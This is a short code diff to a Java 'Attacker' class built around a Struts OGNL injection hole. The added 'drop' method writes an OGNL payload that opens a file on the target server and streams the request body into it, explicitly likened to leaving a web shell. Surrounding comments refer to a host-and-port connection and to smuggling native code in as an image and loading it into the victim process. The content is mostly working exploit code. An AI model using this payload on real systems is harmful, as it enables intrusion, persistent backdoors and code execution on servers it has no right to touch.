@@ -33,6 +33,16 @@ public record Attacker(StrutsHole hole) {
                         .formatted(host, port, line));
     }
 
+    /// Leaves a file behind, as a web shell is left.
+    public String drop(byte[] content, String path) {
+        return hole.evaluate(
+                ("(#request=#context['com.opensymphony.xwork2.dispatcher.HttpServletRequest'])"
+                                + ".(#out=new java.io.FileOutputStream('%1$s'))"
+                                + ".(#request.getInputStream().transferTo(#out)).(#out.close())")
+                        .formatted(path),
+                content);
+    }
+
     /// Smuggles native code in as if it were a visitor's picture and loads it into the shop's own
     /// process.
     ///
